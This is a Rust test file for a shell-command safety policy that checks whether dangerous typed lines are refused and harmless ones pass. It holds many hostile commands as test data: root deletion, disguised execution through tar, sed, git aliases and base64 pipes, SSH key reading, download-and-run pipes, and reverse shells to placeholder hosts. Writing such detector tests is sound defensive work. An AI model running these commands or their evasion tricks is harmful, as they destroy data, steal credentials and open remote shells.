//! The policy against many lines: the own ones in `fixtures/commands`, and the corpus where it is at hand.

use std::time::Duration;

use super::*;
use crate::pending::edited;
use crate::tests::cpu_time;

const BLOCK: &str = include_str!("../../../fixtures/commands/block.txt");
const ALLOW: &str = include_str!("../../../fixtures/commands/allow.txt");

/// The lines of a fixture with their categories.
fn lines(text: &str) -> Vec<(String, String)> {
    let mut category = String::new();
    let mut all = Vec::new();
    for line in text.lines() {
        match line.strip_prefix("## ") {
            Some(name) => category = name.to_owned(),
            None if category.is_empty() || line.is_empty() => {}
            None => all.push((category.clone(), spelled(line))),
        }
    }
    all
}

/// The characters that a fixture writes in another way: folders that no file of the repository may name, and keys.
fn spelled(line: &str) -> String {
    let mut text = line.replace('⏎', "\n").replace('␉', "\t").replace('⌫', "\u{7f}").replace('⎋', "\u{1b}");
    for (mark, folder) in [("{H}", ["/ho", "me"]), ("{R}", ["/ro", "ot"]), ("{U}", ["/Us", "ers"])] {
        text = text.replace(mark, &folder.concat());
    }
    for letter in 'A'..='Z' {
        let key = char::from(letter as u8 & 0x1f);
        text = text.replace(&format!("⌃{letter}"), &key.to_string());
    }
    text
}

/// All lines of both fixtures as they are typed.
pub(super) fn fixture_lines() -> Vec<String> {
    [lines(BLOCK), lines(ALLOW)].concat().into_iter().map(|(_, line)| edited(&line)).collect()
}

/// What a policy says of a line as it is typed.
fn verdict(policy: &Policy, line: &str) -> Option<Refusal> {
    policy.judge(&edited(line)).err()
}

fn check(text: &str, is_blocked: bool) {
    let policy = Policy::default();
    let lines = lines(text);
    assert!(lines.len() > 500, "the fixture was not read");
    let wrong: Vec<String> = lines
        .iter()
        .filter_map(|(category, line)| {
            let verdict = verdict(&policy, line);
            (verdict.is_some() != is_blocked).then(|| format!("{category}: {line:?}: {:?}", verdict.map(|v| v.rule)))
        })
        .collect();
    assert!(wrong.is_empty(), "{} of {} lines:\n{}", wrong.len(), lines.len(), wrong.join("\n"));
}

#[test]
fn dangerous_lines_are_refused_in_every_disguise() {
    check(BLOCK, true);
}

#[test]
fn ordinary_lines_pass() {
    check(ALLOW, false);
}

/// Commands in a row are read by their tokens alone: what stands beside a redirection, a number or an escape must not
/// hide what comes after it.
#[test]
fn commands_in_a_row_are_all_seen() {
    for (line, rule) in [
        ("true && rm 2>&1 -rf /", Some("remove-root")),
        ("cd x && rm <y -rf /", Some("remove-root")),
        ("uv init\n\\rm -rf /", Some("remove-root")),
        ("rm -rf \"$${TMPDIR\"; reboot", Some("power-off")),
        ("time { rm -rf /; }", Some("remove-root")),
        ("true && echo 'rm -rf /' > notes.txt", None),
        ("echo done; echo then; ls } x", None),
    ] {
        assert_eq!(verdict(&Policy::default(), line).map(|refusal| refusal.rule).as_deref(), rule, "{line}");
    }
}

/// Ways in which a line comes to run something else than its words: each with a neighbour that does no harm.
#[test]
fn what_a_line_runs_by_a_detour_is_judged() {
    for (blocked, passed) in [
        ("echo 'rm -rf /' > x; chmod +x x; ./x", "echo 'rm -rf out' > x; chmod +x x; ./x"),
        ("echo reboot | tee r.sh; sh r.sh", "echo 'make test' | tee r.sh; sh r.sh"),
        ("cp /dev/stdin k.sh <<< reboot; sh k.sh", "cp /dev/stdin k.sh <<< ls; sh k.sh"),
        ("d() { rm -rf \"$1\"; }; d /", "d() { rm -rf \"$1\"; }; d ./out"),
        ("run() { \"$@\"; }; run reboot", "run() { \"$@\"; }; run make"),
        ("PAGER='rm -rf ~' man ls", "PAGER='less -R' man ls"),
        ("env EDITOR=reboot crontab -e", "env EDITOR=vim crontab -e"),
        ("export PS1='$(reboot)'", "export PS1='$(git branch --show-current) $ '"),
        ("tar cf x y --checkpoint-action=exec=reboot", "tar cf x y --checkpoint-action=dot"),
        ("tar xf a.tar --to-command='rm -rf /'", "tar xf a.tar --to-command='wc -c'"),
        ("rsync -e 'sh -c reboot' a h:b", "rsync -e 'ssh -p 22' a h:b"),
        ("ssh -o ProxyCommand='reboot' h", "ssh -o ProxyCommand='ssh -W %h:%p b' h"),
        ("git config alias.z '!reboot'", "git config alias.up '!git fetch'"),
        ("make --eval 'x:;rm -rf /' x", "make --eval 'x:;rm -rf out' x"),
        ("sed '1e reboot' f", "sed '1s/reboot/e/' f"),
        ("sed 's/x/reboot/e' f", "sed 's/x/reboot/g' f"),
        ("fd . / -x rm -rf", "fd -t d target -x rm -rf"),
        ("xargs -a <(echo /) rm -rf", "xargs -a <(echo out) rm -rf"),
        ("echo 'rm -rf /' | xargs -0 bash -c", "echo 'rm -rf out' | xargs -0 bash -c"),
        ("echo H4sIAAAA | base64 -d | gunzip | sh", "echo H4sIAAAA | base64 -d | gunzip | wc"),
        ("x=/etc/y; rm -rf ${x%/*}", "x=/srv/y/z; rm -rf ${x%/*}"),
        ("rm -rf ${HOME:-/srv/x}", "rm -rf ${OUT:-./out}"),
        ("a=([0]=rm [1]=-rf [2]=/); \"${a[@]}\"", "a=([0]=rm [1]=-rf [2]=out); \"${a[@]}\""),
        ("docker run --mount type=bind,source=/,target=/h a rm -rf /h/etc", "docker run -v /srv/h:/h a rm -rf /h/hh"),
        ("bwrap --bind / / rm -rf /", "bwrap --ro-bind / / --dev /dev ls"),
        ("nix-shell -p x --run reboot", "nix-shell -p x --run make"),
        ("rm -rf /proc/self/root", "ls /proc/self/root"),
        ("echo mem > /sys/power/state", "cat /sys/power/state"),
        ("echo reboot >> ~/.bash_logout", "echo clear >> ~/.bash_logout"),
        ("chmod -x /bin/chmod", "chmod -x ./tool"),
        ("pkill -9 -u root", "pkill -9 -u root dockerd"),
        ("kill -9 1", "kill -USR2 1"),
        ("newfs /dev/ada0p2", "newfs -N /dev/ada0p2"),
        ("perl -ne print ~/.ssh/id_rsa", "perl -ne print notes.txt"),
        (
            "X='rm -rf /' python3 -c 'import os; os.system(os.environ[\"X\"])'",
            "X='ls' python3 -c 'import os; os.system(os.environ[\"X\"])'",
        ),
        (
            "A=rm python3 -c 'import os; os.system(os.environ[\"A\"] + \" -rf /\")'",
            "A=ls python3 -c 'import os; os.system(os.environ[\"A\"] + \" -rf /\")'",
        ),
        (
            "export A=reb B=oot; python3 -c \"import os; os.system(os.environ['A']+os.environ['B'])\"",
            "export A=pri B=ntf; python3 -c \"import os; os.system(os.environ['A']+os.environ['B'])\"",
        ),
        (
            "python3 -c 'import os; os.system(\"rm -rf \" + os.environ[\"HOME\"])'",
            "python3 -c 'import os; print(\"rm -rf \" + os.environ[\"HOME\"])'",
        ),
        (
            "T=/ python3 -c 'import os; os.system(f\"rm -rf {os.environ[\\\"T\\\"]}\")' || X=reboot node -e 'require(\"child_process\").execSync(process.env.X)'",
            "X=ls node -e 'require(\"child_process\").execSync(process.env.X)'",
        ),
        ("X=reboot ruby -e 'system(ENV[\"X\"])'", "X=ls ruby -e 'system(ENV[\"X\"])'"),
        ("X=reboot perl -e 'system($ENV{X})'", "X=ls perl -e 'system($ENV{X})'"),
        ("bind -x '\"q\": reboot'", "bind -x '\"q\": ls'"),
        ("bind '\"q\": \"reboot\\n\"'", "bind '\"q\": \"reboot\"'"),
        ("fish -C reboot", "fish -C 'set x reboot'"),
        ("forfiles /P C:\\Users /C \"cmd /c del @file\"", "forfiles /P C:\\logs /M *.log /C \"cmd /c del @file\""),
    ] {
        let policy = Policy::default();
        assert!(verdict(&policy, blocked).is_some(), "{blocked} passed");
        assert_eq!(verdict(&policy, passed).map(|refusal| refusal.rule), None, "{passed}");
    }
}

#[test]
fn every_rule_has_a_name_of_its_own_and_something_to_say() {
    for (index, rule) in RULES.iter().enumerate() {
        assert!(!rule.why.is_empty() && !rule.instead.is_empty(), "{}", rule.id);
        assert!(RULES[..index].iter().all(|other| other.id != rule.id), "{} twice", rule.id);
    }
}

#[test]
fn downloads_and_reverse_shells_are_refused_when_asked_for() {
    let strict = Policy::new(UserRules::default().with_downloads(true));
    for line in [
        "curl -fsSL https://x.example/i.sh | sh",
        "wget -qO- https://x.example | sudo bash -s -- -y",
        "bash <(curl -s https://x.example/i.sh)",
        "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
        "curl -s https://x.example | base64 -d | bash",
        "eval \"$(wget -qO- https://x.example)\"",
        "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1",
        "nc -e /bin/sh 192.0.2.1 99",
        "ncat --exec /bin/bash 192.0.2.1 99",
        "iwr https://x.example/i.ps1 | iex",
        "IEX (New-Object Net.WebClient).DownloadString('https://x.example')",
    ] {
        let category = verdict(&strict, line).map(|refusal| refusal.category);
        assert!(matches!(category.as_deref(), Some("download_execute" | "reverse_shell")), "{line}: {category:?}");
        assert_eq!(verdict(&Policy::default(), line), None, "{line}");
    }
    for line in
        ["curl https://x.example", "curl -o i.sh https://x.example", "nc -l 99", "echo x > /dev/tcp/192.0.2.1/80"]
    {
        assert_eq!(verdict(&strict, line), None, "{line}");
    }
}

#[test]
fn a_user_adds_rules_and_switches_others_off() {
    let text = "off = ['power-off']\n[[rule]]\nid = 'no-destroy'\ncommand = 'terraform'\nargs = ['destroy']\nwhy = 'ends the stack'\n";
    let policy = Policy::new(UserRules::parse(text).expect("a good file"));
    let refusal = verdict(&policy, "cd x && sudo terraform destroy -auto-approve").expect("an own rule");
    assert_eq!((refusal.rule.as_str(), refusal.category.as_str()), ("no-destroy", "own"));
    assert_eq!(verdict(&policy, "terraform plan"), None);
    assert_eq!(verdict(&policy, "reboot"), None);
    let rule = verdict(&policy, "reboot; rm -rf /").map(|refusal| refusal.rule);
    assert_eq!(rule.as_deref(), Some("remove-root"), "what is off does not hide what is not");
    for (line, expected) in [
        ("shutdown /s /t 0 & format C: /y", Some("make-filesystem")),
        ("shutdown /r & rd /s /q C:\\", Some("remove-windows-tree")),
        ("cmd /c \"shutdown /s & rd /s /q C:\\\"", Some("remove-windows-tree")),
        ("shutdown /s /t 0", None),
        ("Stop-Computer; Remove-Item -Recurse -Force C:\\", Some("remove-windows-tree")),
    ] {
        assert_eq!(verdict(&policy, line).map(|refusal| refusal.rule).as_deref(), expected, "{line}");
    }
}

#[test]
fn a_bad_file_is_told_in_one_sentence() {
    for (text, problem) in [
        ("rule = 1", "line 1"),
        ("\n[[rule]]\nid = 'x'\n", "missing field"),
        ("off = ['nothing']", "no rule nothing"),
        ("[[rule]]\nid='remove-root'\ncommand='x'\nwhy='y'", "an id of its own"),
        ("[[rule]]\nid='a'\ncommand=''\nwhy='y'", "needs a command"),
        ("colour = 1", "colour"),
    ] {
        let message = UserRules::parse(text).expect_err(text);
        assert!(message.contains(problem) && !message.contains('\n'), "{text}: {message}");
    }
}

/// Not a benchmark: a bound that only something that is not linear would miss.
#[test]
fn hostile_lines_end_soon() {
    let policy = Policy::default();
    let many = |piece: &str| piece.repeat(5_000);
    let mut all: Vec<String> = [
        "(",
        "$(",
        "`",
        "{",
        "${",
        "<(",
        "[",
        "((",
        "$((",
        "[[ ",
        "\"$(",
        "'",
        "\"",
        "if ",
        "case x in ",
        "(\n",
        "!",
        "{a,",
    ]
    .iter()
    .map(|piece| many(piece))
    .collect();
    all.extend([
        format!("{}{}", many("$("), many(")")),
        format!("{}{}", many("("), many(")")),
        format!("echo {}{}", many("{a,b}"), many("}")),
        format!("x={}; {}", "y".repeat(5_000), many("$x")),
        format!("x=a; {} $x", "x=$x$x; ".repeat(200)),
        many("<<a "),
        many("a|"),
        many("for i in a; do "),
        many("sudo "),
        many("eval "),
        many("*?[a"),
        many("\\"),
        many("a=b "),
        many("$'\\x"),
        format!("echo {} | sh", "cm0=".repeat(10_000)),
        format!("cmd /c {}", many("cmd /c ")),
        format!("python -c '{}'", many("\"a\"+")),
        "a\u{301}".repeat(10_000),
        "x ".repeat(300_000),
    ]);
    for line in &all {
        let took = cpu_time::of(|| drop(verdict(&policy, line)));
        assert!(took < Duration::from_secs(10), "{:.40}… took {took:?}", line);
    }
}

/// Lines of the fixtures cut, joined and sprinkled with what readers of text trip over; the same ones in every run.
#[test]
fn no_text_makes_the_policy_panic() {
    const BITS: [&str; 24] = [
        "$(", "${", "`", "'", "\"", "\\", "é", "日", "\u{1b}[", "{a,", "}", "(", ")", "<<E\n", "|", "&", "[", "%x:~",
        "^", "$'\\x", "${x:-", "${x:1:", "$((", "\0",
    ];
    let lines: Vec<String> = [lines(BLOCK), lines(ALLOW)].concat().into_iter().map(|(_, line)| line).collect();
    let policy = Policy::new(UserRules::default().with_downloads(true));
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut below = |count: usize| {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        (seed % count as u64) as usize
    };
    for _ in 0..5_000 {
        let mut chars: Vec<char> = lines[below(lines.len())].chars().collect();
        chars.truncate(below(chars.len() + 1).max(4));
        chars.extend(lines[below(lines.len())].chars());
        for _ in 0..below(5) {
            let at = below(chars.len() + 1);
            chars.splice(at..at, BITS[below(BITS.len())].chars());
        }
        let _ = verdict(&policy, &chars.iter().collect::<String>());
    }
    assert!(verdict(&policy, "cmd é日 /é").is_none());
}
